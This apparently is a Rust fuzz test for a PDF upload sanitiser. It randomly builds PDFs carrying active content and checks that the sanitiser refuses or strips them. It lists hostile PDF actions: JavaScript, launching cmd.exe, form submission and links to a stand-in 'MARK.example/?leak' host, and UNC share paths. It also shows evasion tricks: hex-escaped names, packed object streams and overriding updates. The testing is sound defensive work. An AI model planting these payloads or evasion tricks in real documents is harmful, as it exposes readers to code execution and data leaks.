// SPDX-License-Identifier: AGPL-3.0-or-later

//! Documents made to act by themselves, by chance from a seed: what acts, where it stands, how it is packed and how the
//! document is put together are thrown together anew each time. Each is refused, or nothing of what acts is left of
//! it, in no stream either. `SALAL_ROUNDS`, while it is
//! compiled, asks for more of them than the gate does (`make proof`).

use std::fmt::Write as _;
use std::io::Write as _;

use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};

use super::*;
use crate::uploads::pdfs;

/// Stands in everything that acts, and in nothing else.
const MARK: &str = "Zq7Acts";

const ACTS: [&str; 14] = [
    "<< /S /JavaScript /JS (app.alert\\('MARK'\\)) >>",
    "<< /S /JavaScript /JS 30 0 R >>",
    "<< /S /Launch /F (MARK.exe) >>",
    "<< /S /Launch /Win << /F (cmd.exe) /P (MARK) >> >>",
    "<< /S /URI /URI (https://MARK.example/?leak) >>",
    "<< /S /SubmitForm /F << /FS /URL /F (https://MARK.example) >> >>",
    "<< /S /GoToR /F (\\\\\\\\MARK\\\\share) /D [0 /Fit] >>",
    "<< /S /GoToE /T << /R /C /N (MARK) >> >>",
    "<< /S /ImportData /F (MARK.fdf) >>",
    "<< /S /Rendition /JS (MARK) /OP 0 >>",
    "<< /S /Named /N /Print /Next << /S /URI /URI (MARK:) >> >>",
    "<< /Type /Filespec /F (MARK.html) /EF << /F 30 0 R >> >>",
    "<< /S /RichMediaExecute /CMD << /C (MARK) >> >>",
    "<< /S /Hide /T (MARK) /Next [<< /S /JavaScript /JS (MARK) >>] >>",
];

/// Where it stands: keys of the catalog, of the page, of its resources, or of the file's other objects.
const CATALOG: [&str; 9] = [
    "/OpenAction ACT",
    "/AA << /WC ACT /DS ACT >>",
    "/Names << /JavaScript << /Names [(a) ACT] >> >>",
    "/Names << /EmbeddedFiles << /Names [(a) ACT] >> >>",
    "/AF [ACT]",
    "/Outlines << /First << /Title (MARK) /A ACT >> >>",
    "/AcroForm << /Fields [<< /T (MARK) /AA << /K ACT >> >>] >>",
    "/Collection << /D (MARK) >>",
    "/PieceInfo << /MARK << /Private ACT >> >>",
];
const PAGE: [&str; 8] = [
    "/AA << /O ACT /C ACT >>",
    "/Annots [<< /Subtype /Link /Rect [0 0 200 200] /A ACT >>]",
    "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /PA ACT /AA << /E ACT >> >>]",
    "/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /A ACT /AP << /N 21 0 R >> >>]",
    "/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS ACT /AP << /N 21 0 R >> >>]",
    "/Annots [<< /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /A ACT /AP << /N 21 0 R >> >>]",
    "/PieceInfo << /X << /Private ACT >> >>",
    "/Metadata 30 0 R /Thumb 22 0 R",
];
const RESOURCES: [&str; 8] = [
    "/Properties << /P << /A ACT >> >>",
    "/Properties << /P ACT >>",
    "/XObject << /X 21 0 R /Y 22 0 R >>",
    "/XObject << /X 23 0 R >>",
    "/ExtGState << /G << /Type /ExtGState /AA ACT >> >>",
    "/ColorSpace << /C [/ICCBased 24 0 R] >>",
    "/Pattern << /P 25 0 R >>",
    "/Font << /F2 << /Type /Font /Subtype /Type3 /CharProcs << /a 21 0 R >> /A ACT >> >>",
];

/// Streams that the places above name: pieces with more in their dictionaries than they need.
const PIECES: &str = "21 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /PieceInfo << /M ACT >> /AF [ACT] /Length 1 >>\nstream\nn\nendstream\nendobj\n\
    22 0 obj\n<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Alternates [<< /Image 21 0 R /A ACT >>] /OPI << /2.0 << /F (MARK) >> >> /Length 1 >>\nstream\nx\nendstream\nendobj\n\
    23 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (MARK.pdf) /Page 0 >> /Length 1 >>\nstream\nn\nendstream\nendobj\n\
    24 0 obj\n<< /N 3 /Metadata 30 0 R /A ACT /Length 1 >>\nstream\nx\nendstream\nendobj\n\
    25 0 obj\n<< /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9 /Resources << /Properties << /P ACT >> >> /Length 1 >>\nstream\nn\nendstream\nendobj\n\
    30 0 obj\n<< /Length 40 >>\nstream\napp.launchURL('https://MARK.example');   \nendstream\nendobj\n";

struct Maker(StdRng);

impl Maker {
    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of.choose(&mut self.0).expect("one of several")
    }

    fn chance(&mut self, percent: u32) -> bool {
        self.0.random_ratio(percent, 100)
    }

    /// Names with some of their letters as `#4a`, as a reader decodes them.
    fn escaped(&mut self, text: &str) -> String {
        let mut out = String::new();
        let mut in_name = false;
        for letter in text.chars() {
            in_name = letter == '/' || (in_name && letter.is_ascii_alphabetic());
            if in_name && letter != '/' && self.chance(25) {
                let _ = write!(out, "#{:02x}", u32::from(letter));
            } else {
                out.push(letter);
            }
        }
        out
    }

    /// The same objects, packed so that no search of the file's bytes finds their words.
    fn packed(&mut self, number: usize, objects: &[(usize, String)]) -> Vec<u8> {
        let mut head = String::new();
        let mut body = String::new();
        for (id, object) in objects {
            let _ = write!(head, "{id} {} ", body.len());
            body.push_str(object);
            body.push('\n');
        }
        let plain = [head.as_bytes(), body.as_bytes()].concat();
        let (filter, bytes) = match self.0.random_range(0..3) {
            0 => (
                "/ASCIIHexDecode",
                plain
                    .iter()
                    .fold(String::new(), |mut hex, byte| {
                        let _ = write!(hex, "{byte:02x}");
                        hex
                    })
                    .into_bytes(),
            ),
            1 => {
                let mut packer =
                    flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
                packer.write_all(&plain).expect("memory");
                ("/FlateDecode", packer.finish().expect("memory"))
            }
            _ => ("[]", plain),
        };
        let dictionary = format!(
            "{number} 0 obj\n<< /Type /ObjStm /N {} /First {} /Filter {filter} /Length {} >>\nstream\n",
            objects.len(),
            head.len(),
            bytes.len()
        );
        [dictionary.as_bytes(), &bytes, b"\nendstream\nendobj\n"].concat()
    }

    fn document(&mut self) -> Vec<u8> {
        let act = self.one(&ACTS).replace("MARK", MARK);
        let fill = |text: &str, act: &str| text.replace("ACT", act).replace("MARK", MARK);
        let by_reference = self.chance(50);
        let named = if by_reference { "20 0 R" } else { act.as_str() };
        let mut catalog = String::new();
        let mut page = String::new();
        let mut resources =
            "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>".to_owned();
        for _ in 0..self.0.random_range(1..4) {
            match self.0.random_range(0..3) {
                0 => catalog += &fill(self.one(&CATALOG), named),
                1 => page += &fill(self.one(&PAGE), named),
                _ => resources += &fill(self.one(&RESOURCES), named),
            }
        }
        let mut objects = vec![
            (1, format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>")),
            (2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned()),
            (
                3,
                format!(
                    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << {resources} >> {page} >>"
                ),
            ),
            (20, act.clone()),
        ];
        if self.chance(40) {
            for (_, object) in &mut objects {
                *object = self.escaped(object);
            }
        }
        let mut bytes = b"%PDF-1.7\n".to_vec();
        let hidden = self.chance(40);
        if hidden {
            let all = std::mem::take(&mut objects);
            bytes.extend(self.packed(40, &all));
        }
        for (id, object) in &objects {
            bytes.extend(format!("{id} 0 obj\n{object}\nendobj\n").bytes());
        }
        bytes.extend(b"4 0 obj\n<< /Length 36 >>\nstream\nBT /F1 24 Tf 20 100 Td (Pill) Tj ET  \nendstream\nendobj\n");
        bytes.extend(fill(PIECES, named).bytes());
        if self.chance(30) {
            // A later version of an object replaces the harmless one.
            bytes.extend(
                fill(
                    "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ACT >>\nendobj\n",
                    named,
                )
                .bytes(),
            );
        }
        let start = bytes.len();
        bytes.extend(b"trailer\n<< /Root 1 0 R /Size 50 >>\nstartxref\n");
        bytes.extend(format!("{}\n%%EOF\n", if self.chance(50) { 9 } else { start }).bytes());
        bytes
    }
}

/// Everything in a document, streams decoded.
fn everything(bytes: &[u8]) -> Vec<u8> {
    let pdf = Pdf::new(bytes.to_vec()).expect("a document");
    let mut all = bytes.to_vec();
    for object in pdf.objects() {
        if let Object::Stream(stream) = object {
            all.extend(
                stream
                    .decoded()
                    .map(std::borrow::Cow::into_owned)
                    .unwrap_or_default(),
            );
        }
    }
    all
}

#[test]
fn nothing_that_acts_is_left() {
    let rounds = option_env!("SALAL_ROUNDS");
    let rounds: u64 = rounds.map_or(400, |rounds| rounds.parse().expect("a number of rounds"));
    let (mut stored, mut drawn) = (0, 0);
    for seed in 0..rounds {
        let hostile = Maker(StdRng::seed_from_u64(seed)).document();
        let draws = std::cell::Cell::new(0);
        let made = pdfs::check(&hostile).and_then(|()| redraw(hostile.clone(), &|| draws.set(1)));
        let Ok(anew) = made else { continue };
        stored += 1;
        drawn += draws.get();
        let whole = everything(&anew);
        let found = whole
            .windows(MARK.len())
            .any(|part| part == MARK.as_bytes());
        assert!(!found, "seed {seed}: {}", String::from_utf8_lossy(&hostile));
        assert!(is_plain(&anew), "seed {seed}");
    }
    // Most are refused by name; those that got past that are what this is about.
    assert!(
        stored * 10 > rounds && drawn * 50 > rounds,
        "{stored} stored, {drawn} drawn, of {rounds}"
    );
}
